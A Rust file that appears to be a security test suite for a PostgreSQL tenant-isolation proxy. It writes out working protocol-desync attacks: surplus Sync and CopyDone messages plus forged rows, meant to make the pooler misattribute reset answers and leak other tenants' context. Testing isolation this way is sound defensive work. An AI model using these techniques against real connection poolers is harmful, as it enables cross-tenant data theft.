//! Requests that look answered and are not: whoever makes the proxy miscount has his own answers read as answers to it.

use std::time::Duration;

use bytes::BytesMut;
use postgres_protocol::IsNull;
use postgres_protocol::message::frontend;

use crate::attack::Attack;
use crate::session::Session;
use crate::stage::{Stage, contains};

/// PostgreSQL's `setseed`, `current_setting` and `textin`.
const SET_SEED: u32 = 1599;
const CURRENT_SETTING: u32 = 3294;
const TEXT_IN: u32 = 46;

/// These Syncs, and the end of a COPY that has not begun: a proxy that believes it takes the Syncs for ignored. It then takes as
/// many of the requests that follow for answered as there are Syncs, while the server is at the first of them.
fn with_syncs(syncs: usize) -> Vec<u8> {
    let mut out = BytesMut::new();
    statement("", "SELECT 1", &mut out);
    (0..syncs).for_each(|_| frontend::sync(&mut out));
    frontend::copy_done(&mut out);
    frontend::sync(&mut out);
    out.to_vec()
}

/// Parse, Bind and Execute; the answer in binary.
fn statement(name: &str, sql: &str, out: &mut BytesMut) {
    frontend::parse(name, sql, [], out).expect("parse");
    let bound = frontend::bind(name, name, [], [(); 0], |(), _| Ok(IsNull::Yes), [1], out);
    assert!(bound.is_ok(), "names without a NUL byte");
    frontend::execute(name, 0, out).expect("execute");
}

fn query(sql: &str) -> Vec<u8> {
    let mut out = BytesMut::new();
    frontend::query(sql, &mut out).expect("query");
    out.to_vec()
}

fn call(function: u32, arguments: &[&str]) -> Vec<u8> {
    let mut body =
        [&function.to_be_bytes()[..], &[0, 0], &u16::try_from(arguments.len()).expect("few").to_be_bytes()].concat();
    for argument in arguments {
        body.extend(u32::try_from(argument.len()).expect("short").to_be_bytes());
        body.extend(argument.as_bytes());
    }
    body.extend([0, 0]);
    [&b"F"[..], &u32::try_from(body.len() + 4).expect("short").to_be_bytes(), &body].concat()
}

/// What a pool's reset asks for, by the attacker himself; with echoes that he has to guess, and with facts of a nonce.
fn reset(with_echoes: bool, attach: Option<u32>) -> Vec<Vec<u8>> {
    let echo = with_echoes.then(|| call(TEXT_IN, &["00000000000000000000000000000000"]));
    let with_facts = attach.is_some();
    let facts = attach.map(|attach| call(attach, &[]));
    let mut all: Vec<_> = echo.clone().into_iter().collect();
    all.extend([query("DISCARD ALL"), call(SET_SEED, &["0.5"])]);
    all.extend(facts);
    all.push(call(CURRENT_SETTING, &["role", "t"]));
    all.extend(with_facts.then(|| call(CURRENT_SETTING, &["pgvpd.context", "t"])));
    all.push(call(CURRENT_SETTING, &["app.nothing", "t"]));
    all.extend(echo);
    all
}

pub(crate) fn attacks() -> Vec<Attack> {
    const RESETS: &[(&str, bool, bool)] = &[
        ("count: a reset answered by the attacker", false, false),
        ("count: a reset answered by the attacker, with facts", false, true),
        ("count: a reset answered by the attacker, with echoes", true, false),
        ("count: a reset answered by the attacker, with echoes and facts", true, true),
    ];
    let mut attacks = Vec::new();
    for &(name, with_echoes, with_facts) in RESETS {
        attacks.push(Attack::by(name, move |stage| {
            Box::pin(async move { answer_reset(stage, with_echoes, with_facts).await })
        }));
    }
    attacks
        .push(Attack::by("count: a restore answered by the attacker", |stage| Box::pin(restore(stage, "RESET ALL"))));
    attacks.push(Attack::by("count: a new nonce answered by the attacker", |stage| {
        Box::pin(restore(stage, "DISCARD ALL"))
    }));
    attacks.push(Attack::by("count: a right that comes back", |stage| Box::pin(comes_back(stage))));
    attacks
}

/// DISCARD ALL takes long where there is much to drop. Meanwhile a proxy that has miscounted sends its own reset, and reads the
/// attacker's answers as the answers to it.
async fn answer_reset(stage: &Stage, with_echoes: bool, with_facts: bool) -> Result<(), &'static str> {
    if !stage.mode.is_pooled() {
        return Err("no backend is given to another session in this mode");
    }
    let much = "DO $$ BEGIN FOR n IN 1..3000 LOOP
        EXECUTE format('CREATE FUNCTION pg_temp.f%s() RETURNS int LANGUAGE sql AS ''SELECT 1''', n); END LOOP; END $$";
    for _ in 0..3 {
        let mut attacker = stage.attacker_at(&stage.narrow).await;
        let attach = attacker.query("SELECT 'pgvpd.attach()'::regprocedure::oid").await.value();
        let attach = attach.and_then(|number| number.parse().ok()).filter(|_| with_facts);
        let answers = reset(with_echoes, attach);
        assert_eq!(attacker.query(much).await.code(), None, "it is made");
        attacker.send(&[with_syncs(answers.len()), answers.concat(), b"X\0\0\0\x04".to_vec()].concat()).await;
        while attacker.message().await.is_some() {}
        stage.check_new_victim(&stage.narrow).await;
    }
    Ok(())
}

/// Rows of the attacker's own come where those of the restore are due: with another tenant's name, and with facts. They have to reach
/// him, as the answers to his own requests.
async fn restore(stage: &Stage, reset: &str) -> Result<(), &'static str> {
    let rows = [
        "'globex'::bytea, 'none'::bytea, 'off'::bytea",
        "'acme'::bytea, 'none'::bytea, 'off'::bytea",
        "convert_to(pgvpd.attach()::text, 'UTF8'), 'off'::bytea",
    ];
    for row in rows {
        for syncs in 1..4 {
            let mut attacker = stage.attacker().await;
            let mut forged = BytesMut::new();
            statement("own", &format!("SELECT 'off'::bytea, {row} FROM pg_sleep(0.2)"), &mut forged);
            frontend::close(b'P', "own", &mut forged).expect("close");
            frontend::close(b'S', "own", &mut forged).expect("close");
            frontend::sync(&mut forged);
            attacker.send(&[with_syncs(syncs), query(reset), forged.to_vec().repeat(syncs)].concat()).await;
            // The next request goes out once the proxy has had as many answers as a miscounting one expects.
            let (mut ready, mut own) = (0, 0);
            while ready < syncs + 2
                && let Some((tag, _)) = attacker.message().await
            {
                ready += usize::from(tag == b'Z');
            }
            attacker.send(&query("SELECT 'the next'")).await;
            while let Some((tag, body)) = attacker.message().await {
                own += usize::from(tag == b'D' && contains(&body, b"\0\0\0\x03off"));
                if tag == b'D' && contains(&body, b"the next") {
                    break;
                }
            }
            if own != syncs {
                stage.reached(format!("{own} of {syncs} answers to the attacker's own requests reach him"));
            }
            attacker.reply().await;
            stage.loot(&mut attacker).await;
            stage.check_victim().await;
            attacker.leave().await;
        }
    }
    Ok(())
}

/// The context of a moment ago, kept, and set again behind a reset whose restore is answered by the attacker.
async fn comes_back(stage: &Stage) -> Result<(), &'static str> {
    let mut attacker: Session = stage.attacker().await;
    let kept = attacker.query("SELECT current_setting('pgvpd.context', true)").await.value().unwrap_or_default();
    let set = query(&format!("SELECT set_config('pgvpd.context', '{kept}', false)"));
    attacker.send(&[with_syncs(3), query("DISCARD ALL"), set.clone(), set].concat()).await;
    while attacker.message_within(Duration::from_millis(600)).await.is_some() {}
    attacker.query("SELECT 1").await;
    stage.loot(&mut attacker).await;
    stage.check_victim().await;
    attacker.leave().await;
    Ok(())
}
